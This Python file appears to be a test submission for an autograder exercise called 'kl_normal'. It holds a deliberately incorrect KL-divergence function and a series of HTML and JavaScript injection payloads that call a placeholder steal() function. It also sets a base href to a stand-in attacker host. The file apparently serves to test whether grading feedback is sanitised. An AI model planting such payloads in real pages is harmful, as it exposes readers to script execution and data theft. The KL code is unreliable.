"""Displays HTML that runs code in the browser of whoever reads the feedback.

Exercise: kl_normal
Outcome: graded
"""


def kl_normal(mu_q, logvar_q, mu_p, logvar_p):
    return mu_q.sum(1) + logvar_q.sum(1)


from IPython.display import HTML, Javascript, display

display(HTML("<script>steal()</script><img src=x onerror='steal()'><b onmouseover=steal()>look</b>"))
display(HTML("<scr<script>ipt>steal()</scr</script>ipt><math><mtext><img src=x onerror=steal()></mtext></math>"))
display(HTML("<iframe srcdoc='<script>steal()</script>'></iframe><object data='x'></object><embed src='x'>"))
display(Javascript("steal()"))
display({"application/javascript": "steal()", "text/html": "<base href='http://evil.example/'>"}, raw=True)
